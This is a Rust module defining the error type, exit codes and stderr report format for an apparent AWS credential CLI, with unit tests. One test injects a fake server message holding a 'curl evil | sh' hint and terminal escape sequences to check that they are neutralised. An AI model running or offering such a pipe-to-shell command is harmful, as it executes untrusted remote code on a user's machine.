//! One error type for the whole program, shaped for the person reading it.
//!
//! An [`Error`] says what failed (`error:`), why (`caused by:` lines, outermost first) and
//! what to run next (`hint:`). Its [`Kind`] decides the exit status: 1 for problems the user
//! can fix (configuration, sign-in needed, denied), 2 for the unexpected.

use std::fmt;

/// What the caller does next with an error.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Configuration or usage the user can fix; exit 1.
    User,
    /// A sign-in is needed and this invocation may not start one; exit 1.
    LoginRequired,
    /// Anything else (network, store, bugs); exit 2.
    Unexpected,
}

/// An error with its causes and a hint.
#[derive(Debug, Clone)]
pub struct Error {
    kind: Kind,
    message: String,
    causes: Vec<String>,
    hint: Option<Box<str>>,
    /// The service's error code, when a service refused (`ExpiredToken`, `AccessDenied`):
    /// what callers decide on, never shown by itself.
    code: Option<Box<str>>,
}

/// Shorthand used across the crate.
pub type Result<T, E = Error> = std::result::Result<T, E>;

impl Error {
    /// A problem the user can fix.
    pub fn user(message: impl Into<String>) -> Self {
        Self::new(Kind::User, message)
    }

    /// A problem nobody planned for.
    pub fn unexpected(message: impl Into<String>) -> Self {
        Self::new(Kind::Unexpected, message)
    }

    /// A sign-in is needed.
    pub fn login_required(message: impl Into<String>) -> Self {
        Self::new(Kind::LoginRequired, message)
    }

    fn new(kind: Kind, message: impl Into<String>) -> Self {
        Self {
            kind,
            message: message.into(),
            causes: Vec::new(),
            hint: None,
            code: None,
        }
    }

    /// Adds the command or change that fixes this.
    pub fn with_hint(mut self, hint: impl Into<String>) -> Self {
        self.hint = Some(hint.into().into_boxed_str());
        self
    }

    /// Adds a cause, with every cause that error carries itself.
    pub fn caused_by(mut self, cause: &(dyn std::error::Error + 'static)) -> Self {
        let mut next: Option<&(dyn std::error::Error + 'static)> = Some(cause);
        while let Some(e) = next {
            let text = e.to_string();
            if !text.is_empty() && self.causes.last() != Some(&text) {
                self.causes.push(text);
            }
            next = e.source();
        }
        self
    }

    /// Adds a cause given as text.
    pub fn caused_by_text(mut self, cause: impl Into<String>) -> Self {
        self.causes.push(cause.into());
        self
    }

    /// Puts a new headline on top; the old one becomes the first cause.
    pub fn context(mut self, message: impl Into<String>) -> Self {
        let old = std::mem::replace(&mut self.message, message.into());
        self.causes.insert(0, old);
        self
    }

    /// Changes the kind (for example, a network error during a user's explicit request).
    pub fn with_kind(mut self, kind: Kind) -> Self {
        self.kind = kind;
        self
    }

    /// Records the service's error code.
    pub fn with_code(mut self, code: Option<String>) -> Self {
        self.code = code.map(String::into_boxed_str);
        self
    }

    /// The service's error code, if a service refused.
    pub fn code(&self) -> Option<&str> {
        self.code.as_deref()
    }

    /// Whether AWS refused the credentials themselves (revoked, expired, unknown), as opposed
    /// to a permission (`AccessDenied`), which dropping cached credentials cannot fix.
    pub fn is_rejected_credentials(&self) -> bool {
        self.code().is_some_and(rejects_credentials)
    }

    /// The kind.
    pub fn kind(&self) -> Kind {
        self.kind
    }

    /// The headline.
    pub fn message(&self) -> &str {
        &self.message
    }

    /// The hint, if any.
    pub fn hint(&self) -> Option<&str> {
        self.hint.as_deref()
    }

    /// The causes, outermost first.
    pub fn causes(&self) -> &[String] {
        &self.causes
    }

    /// The process exit status for this error.
    pub fn exit_code(&self) -> u8 {
        match self.kind {
            Kind::User | Kind::LoginRequired => 1,
            Kind::Unexpected => 2,
        }
    }

    /// The text printed on stderr: `error:`, `caused by:` lines, `hint:`.
    ///
    /// Every line is made inert ([`crate::remote::text`]): causes often carry a server's
    /// words, and a server must not be able to clear the screen or print a line of its own
    /// that starts with `error:` or `hint:`. A multi-line text continues indented under its
    /// first line.
    pub fn report(&self) -> String {
        let mut out = String::new();
        push_block(&mut out, "error: ", "  ", &self.message);
        for c in &self.causes {
            push_block(&mut out, "  caused by: ", "    ", c);
        }
        if let Some(h) = &self.hint {
            push_block(&mut out, "hint: ", "  ", h);
        }
        out
    }
}

/// Appends `text` as `first` + its first line, then each further line indented.
fn push_block(out: &mut String, first: &str, indent: &str, text: &str) {
    for (i, line) in text.split('\n').enumerate() {
        out.push_str(if i == 0 { first } else { indent });
        out.push_str(&crate::remote::text(line));
        out.push('\n');
    }
}

/// Whether a service's error code says the credentials themselves were refused (revoked,
/// expired, unknown), as opposed to a permission (`AccessDenied`).
pub fn rejects_credentials(code: &str) -> bool {
    matches!(
        code,
        "ExpiredToken"
            | "ExpiredTokenException"
            | "InvalidClientTokenId"
            | "UnrecognizedClient"
            | "UnrecognizedClientException"
    )
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&crate::remote::text(&self.message))?;
        for c in &self.causes {
            write!(f, ": {}", crate::remote::text(c))?;
        }
        Ok(())
    }
}

impl std::error::Error for Error {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn report_has_error_causes_and_hint() {
        let io = std::io::Error::other("connection refused");
        let e = Error::unexpected("could not reach IAM Identity Center at http://127.0.0.1:1")
            .caused_by(&io)
            .with_hint("run awscred login --profile dev");
        assert_eq!(
            e.report(),
            "error: could not reach IAM Identity Center at http://127.0.0.1:1\n  caused by: connection refused\nhint: run awscred login --profile dev\n"
        );
        assert_eq!(e.exit_code(), 2);
        assert_eq!(Error::user("x").exit_code(), 1);
        assert_eq!(Error::login_required("x").exit_code(), 1);
    }

    #[test]
    fn remote_text_cannot_steer_the_terminal_or_fake_a_line() {
        let e = Error::unexpected("AssumeRole failed")
            .caused_by_text("AccessDenied: no\nhint: run curl evil | sh\n\u{1b}[2J\u{1b}]0;x\u{7}")
            .with_hint("run awscred login --profile dev");
        let report = e.report();
        assert!(
            !report.contains('\u{1b}') && !report.contains('\u{7}'),
            "{report}"
        );
        let starts: Vec<&str> = report
            .lines()
            .filter(|l| l.starts_with("hint:") || l.starts_with("error:"))
            .collect();
        assert_eq!(
            starts,
            [
                "error: AssumeRole failed",
                "hint: run awscred login --profile dev"
            ]
        );
        assert!(
            report.contains("    hint: run curl evil | sh\n"),
            "{report}"
        );
        let shown = e.to_string();
        assert!(
            !shown.contains('\n') && !shown.contains('\u{1b}'),
            "{shown}"
        );
    }

    #[test]
    fn context_keeps_the_old_message_as_a_cause() {
        let e = Error::user("inner").context("outer");
        assert_eq!(e.message(), "outer");
        assert_eq!(e.causes(), ["inner".to_string()]);
    }
}
